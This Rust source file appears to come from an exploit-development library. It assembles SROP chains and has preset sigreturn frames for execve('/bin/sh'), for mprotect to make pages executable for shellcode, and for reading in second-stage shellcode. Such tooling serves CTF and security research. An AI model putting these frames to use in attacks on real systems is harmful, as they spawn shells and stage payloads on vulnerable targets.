//! SROP payload assembly.
//!
//! Pairs sigreturn frames with the gadget address that triggers the
//! kernel's restore path, plus preset frames for the syscalls most SROP
//! chains start with. Finding the gadgets and the addresses passed in here
//! is the caller's job.

use crate::arch::Arch;
use crate::error::Result;
use crate::frame::{SigreturnFrame, X64Field, X86Field};

/// x86_64 syscall number for `rt_sigreturn(2)`.
pub const SYS_RT_SIGRETURN_X86_64: u64 = 15;

/// x86 syscall number for `sigreturn(2)`.
pub const SYS_SIGRETURN_X86: u64 = 119;

/// Build an SROP chain: one `[gadget address, frame bytes]` pair per frame.
///
/// `sigreturn_gadget` is the address of a gadget that issues the sigreturn
/// syscall, e.g. `mov rax, 15; syscall` on x86_64 or `int 0x80` with eax
/// preloaded on x86. The address is encoded at each frame's word width.
pub fn build_chain(sigreturn_gadget: u64, frames: &[SigreturnFrame]) -> Vec<u8> {
    let mut chain = Vec::new();
    for frame in frames {
        let addr = sigreturn_gadget.to_le_bytes();
        chain.extend_from_slice(&addr[..frame.arch().word_size()]);
        chain.extend_from_slice(frame.bytes());
    }
    chain
}

/// Frame for `execve("/bin/sh", NULL, NULL)`.
///
/// `syscall_gadget` is a `syscall; ret` (x86_64) or `int 0x80` (x86)
/// gadget; `binsh_addr` points at a `"/bin/sh\0"` string in the target.
pub fn execve_frame(arch: Arch, syscall_gadget: u64, binsh_addr: u64) -> Result<SigreturnFrame> {
    let mut frame = SigreturnFrame::new(arch);
    match arch {
        Arch::X86 => {
            frame.set(X86Field::Eax, 11)?; // __NR_execve (i386)
            frame.set(X86Field::Ebx, binsh_addr)?;
            frame.set(X86Field::Ecx, 0)?;
            frame.set(X86Field::Edx, 0)?;
            frame.set(X86Field::Eip, syscall_gadget)?;
        }
        Arch::X86_64 => {
            frame.set(X64Field::Rax, 59)?; // __NR_execve
            frame.set(X64Field::Rdi, binsh_addr)?;
            frame.set(X64Field::Rsi, 0)?;
            frame.set(X64Field::Rdx, 0)?;
            frame.set(X64Field::Rip, syscall_gadget)?;
        }
    }
    Ok(frame)
}

/// Frame for `mprotect(addr, len, prot)`.
///
/// Useful for making a page RWX before jumping to shellcode.
pub fn mprotect_frame(
    arch: Arch,
    syscall_gadget: u64,
    addr: u64,
    len: u64,
    prot: u64,
) -> Result<SigreturnFrame> {
    let mut frame = SigreturnFrame::new(arch);
    match arch {
        Arch::X86 => {
            frame.set(X86Field::Eax, 125)?; // __NR_mprotect (i386)
            frame.set(X86Field::Ebx, addr)?;
            frame.set(X86Field::Ecx, len)?;
            frame.set(X86Field::Edx, prot)?;
            frame.set(X86Field::Eip, syscall_gadget)?;
        }
        Arch::X86_64 => {
            frame.set(X64Field::Rax, 10)?; // __NR_mprotect
            frame.set(X64Field::Rdi, addr)?;
            frame.set(X64Field::Rsi, len)?;
            frame.set(X64Field::Rdx, prot)?;
            frame.set(X64Field::Rip, syscall_gadget)?;
        }
    }
    Ok(frame)
}

/// Frame for `read(fd, buf, count)`.
///
/// Useful for reading second-stage shellcode into the target.
pub fn read_frame(
    arch: Arch,
    syscall_gadget: u64,
    fd: u64,
    buf: u64,
    count: u64,
) -> Result<SigreturnFrame> {
    let mut frame = SigreturnFrame::new(arch);
    match arch {
        Arch::X86 => {
            frame.set(X86Field::Eax, 3)?; // __NR_read (i386)
            frame.set(X86Field::Ebx, fd)?;
            frame.set(X86Field::Ecx, buf)?;
            frame.set(X86Field::Edx, count)?;
            frame.set(X86Field::Eip, syscall_gadget)?;
        }
        Arch::X86_64 => {
            frame.set(X64Field::Rax, 0)?; // __NR_read
            frame.set(X64Field::Rdi, fd)?;
            frame.set(X64Field::Rsi, buf)?;
            frame.set(X64Field::Rdx, count)?;
            frame.set(X64Field::Rip, syscall_gadget)?;
        }
    }
    Ok(frame)
}
